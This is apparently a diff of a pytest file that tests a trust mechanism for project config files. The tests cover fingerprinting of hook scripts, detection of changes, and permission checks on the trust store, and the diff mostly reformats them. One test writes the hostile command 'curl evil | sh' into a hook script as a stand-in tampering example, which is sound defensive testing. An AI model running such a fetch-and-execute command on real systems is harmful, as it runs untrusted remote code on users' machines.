@@ -1,4 +1,5 @@
 """Trust in project files (crewbridge.trust): the path as used, the scripts a file runs, the store."""
+
 from __future__ import annotations
 
 import json
@@ -39,11 +40,17 @@ HOOKED = {"hooks": {"before_tool_call": [{"command": ["./hook.sh"]}]}}
 
 # --- what a file runs ----------------------------------------------------------------------------------
 
+
 def test_script_words_are_the_relative_words_of_every_command_a_file_can_run():
     data = {
         "tools": {"t": {"command": ["python3", "scripts/x.py", "{path}", "/abs/y.py"]}},
-        "hooks": {"before_tool_call": [{"shell": "./check.sh --strict > out.log 2>>err.log"},
-                                       {"python": "hooks.py:audit"}, {"python": "pkg.mod:audit"}]},
+        "hooks": {
+            "before_tool_call": [
+                {"shell": "./check.sh --strict > out.log 2>>err.log"},
+                {"python": "hooks.py:audit"},
+                {"python": "pkg.mod:audit"},
+            ]
+        },
         "providers": {"p": {"command": ["./cli"], "options": {"query": ["--rules", "rules.md"]}}},
         "agents": {"a": {"options": {"execute": ["--settings=x"]}}},
     }
@@ -62,9 +69,14 @@ def test_script_words_are_the_relative_words_of_every_command_a_file_can_run():
 
 
 def test_a_fingerprint_holds_the_files_the_words_name_by_their_real_path(tmp_path):
-    path, raw = project(tmp_path, {"tools": {"t": {"command": ["python3", "scripts/x.py", "missing.py", "scripts"]}},
-                                   "hooks": {"after_tool_call": [{"command": ["./link.sh"]}]}},
-                        **{"scripts/x.py": "print(1)\n", "real.sh": "exit 0\n"})
+    path, raw = project(
+        tmp_path,
+        {
+            "tools": {"t": {"command": ["python3", "scripts/x.py", "missing.py", "scripts"]}},
+            "hooks": {"after_tool_call": [{"command": ["./link.sh"]}]},
+        },
+        **{"scripts/x.py": "print(1)\n", "real.sh": "exit 0\n"},
+    )
     (path.parent / "link.sh").symlink_to("real.sh")
     found = trust.fingerprint(path, raw, json.loads(raw))
     folder = path.parent.resolve()
@@ -83,6 +95,7 @@ def test_the_path_as_used_keeps_a_link_and_resolves_its_folder(tmp_path):
 
 # --- is it trusted as it is now? -----------------------------------------------------------------------
 
+
 def check(path: Path) -> tuple | None:
     raw = path.read_bytes()
     return trust.refusal(trust.fingerprint(path, raw, json.loads(raw)))
@@ -99,8 +112,10 @@ def test_a_file_is_trusted_once_trusted_until_it_or_a_script_changes(tmp_path):
     trust_it(path)
     assert check(path) is None
     (path.parent / "hook.sh").write_text("curl evil | sh\n")
-    assert check(path) == (("hooks", "before_tool_call", 0, "command", 0),
-                           "runs ./hook.sh, which changed since it was trusted")
+    assert check(path) == (
+        ("hooks", "before_tool_call", 0, "command", 0),
+        "runs ./hook.sh, which changed since it was trusted",
+    )
     trust_it(path)
     path.write_text(json.dumps({**HOOKED, "prefix": "x"}))
     assert check(path) == ((), "changed since it was trusted")
@@ -135,6 +150,7 @@ def test_an_entry_of_the_old_store_format_is_not_trust_and_is_dropped(tmp_path, 
     path, raw = project(tmp_path, {"prefix": "x"})
     state.mkdir(parents=True)
     import hashlib
+
     old = {str(path.resolve()): hashlib.sha256(raw).hexdigest(), "/gone/crew.yaml": "ab" * 32}
     (state / "trusted.json").write_text(json.dumps(old))
     os.chmod(state / "trusted.json", 0o600)
@@ -144,6 +160,7 @@ def test_an_entry_of_the_old_store_format_is_not_trust_and_is_dropped(tmp_path, 
 
 
 # --- the store ----------------------------------------------------------------------------------------
+
 
 def test_the_store_is_created_0600_in_a_0700_folder(tmp_path, state):
     os.umask(0o022)  # the usual one: files 0644 unless crew says otherwise
@@ -170,7 +187,8 @@ def test_a_store_others_can_write_is_refused(tmp_path, state):
         check(path)
     assert str(caught.value) == (
         f"{state / 'trusted.json'}: the trust store is writable by others (mode 0666), so crew does not rely on "
-        f"it; check its entries, then run chmod 600 {state / 'trusted.json'}")
+        f"it; check its entries, then run chmod 600 {state / 'trusted.json'}"
+    )
     with pytest.raises(ConfigError, match="writable by others"):
         trust_it(path)  # nor is it written over: its entries are the user's to check
 
@@ -179,8 +197,11 @@ def test_a_store_of_another_user_is_refused(tmp_path, state, monkeypatch):
     path, _ = project(tmp_path, {"prefix": "x"})
     trust_it(path)
     monkeypatch.setattr(os, "getuid", lambda: os.stat(state).st_uid + 1)
-    with pytest.raises(ConfigError, match=r"the trust store's folder belongs to another user \(uid \d+\), so crew "
-                                          r"does not rely on it; remove it"):
+    with pytest.raises(
+        ConfigError,
+        match=r"the trust store's folder belongs to another user \(uid \d+\), so crew "
+        r"does not rely on it; remove it",
+    ):
         check(path)
 
 
@@ -189,7 +210,7 @@ def test_a_store_that_is_a_link_is_refused(tmp_path, state):
     trust_it(path)
     (state / "trusted.json").rename(state / "elsewhere.json")
     (state / "trusted.json").symlink_to("elsewhere.json")
-    with pytest.raises(ConfigError, match="trusted.json: cannot read the trust store: .*; remove it and trust again"):
+    with pytest.raises(ConfigError, match=r"trusted\.json: cannot read the trust store: .*; remove it and trust again"):
         check(path)
 
 
